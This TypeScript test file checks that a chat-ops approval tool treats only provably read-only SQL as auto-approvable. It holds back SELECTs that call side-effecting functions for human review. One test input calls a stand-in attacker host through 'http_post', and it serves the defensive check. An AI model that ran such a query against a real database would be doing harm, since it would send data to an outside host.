/**
 * `auto_approve: [read]` trusts only what is provably read-only: a SELECT that calls a
 * function not known to be free of side effects waits for a person, like any write.
 */
import nock from "nock";
import { handlerSuite } from "../helpers/suite.js";
import { API, mockConfig, mockInstallationToken, mockPermission } from "../helpers/github.js";
import { OWNER, REPO, issueCommentCreated } from "../helpers/payloads.js";

const CONFIG = `
resources:
  replica:
    approvals: { all_of: [{ users: [bob] }] }
    auto_approve: [read]
    guardrails: { deny: [drop] }
`;

const suite = handlerSuite();

function mockOpen(expectedTitle: string, reviewers: boolean): nock.Scope {
  const scope = nock(API)
    .get(`/repos/${OWNER}/${REPO}/git/ref/${encodeURIComponent("heads/main")}`)
    .reply(200, { object: { sha: "base000" } })
    .post(`/repos/${OWNER}/${REPO}/git/refs`)
    .reply(201, {})
    .put((path) => path.includes("/contents/"))
    .reply(201, { commit: { sha: "head222" } })
    .post(`/repos/${OWNER}/${REPO}/pulls`)
    .reply(201, { number: 43, node_id: "PR_43", html_url: "https://github.com/acme/ops/pull/43" })
    .post(
      `/repos/${OWNER}/${REPO}/check-runs`,
      (body: { output: { title: string } }) => body.output.title === expectedTitle,
    )
    .reply(201, { id: 9002 });
  if (reviewers) scope.get("/users/bob").reply(200, { login: "bob", node_id: "U_bob" });
  return scope
    .get(`/repos/${OWNER}/${REPO}/labels/countersign`)
    .reply(200, { node_id: "L_countersign" })
    .get(`/repos/${OWNER}/${REPO}/labels/${encodeURIComponent("countersign:replica")}`)
    .reply(200, { node_id: "L_replica" })
    .post(
      "/graphql",
      (body: { query: string }) => body.query.includes("requestReviews") === reviewers,
    )
    .reply(200, { data: {} });
}

async function ask(command: string): Promise<string | undefined> {
  const scope = mockInstallationToken(nock(API));
  mockPermission(mockConfig(scope, OWNER, REPO, CONFIG), OWNER, REPO, "alice", "write");
  await suite.deliver("issue_comment", issueCommentCreated({ body: `/run replica ${command}` }));
  await suite.harness.drain();
  return (await suite.harness.store.findBySource("repo:186853002:comment:5001"))?.status;
}

test("a plain read is approved at once", async () => {
  const scope = mockOpen("Approved: queued for execution", false);
  expect(await ask("SELECT count(*) FROM users WHERE lower(email) LIKE '%@acme.test'")).toBe(
    "approved",
  );
  expect(scope.isDone()).toBe(true);
});

test.each([
  "SELECT pg_advisory_lock(42)",
  "SELECT setval('users_id_seq', 1)",
  "SELECT http_post('https://evil.test', 'x')",
  "SELECT reporting.refresh_totals()",
])("%s waits for approval", async (command) => {
  const scope = mockOpen("Waiting for approval", true);
  expect(await ask(command)).toBe("pending");
  expect(scope.isDone()).toBe(true);
});
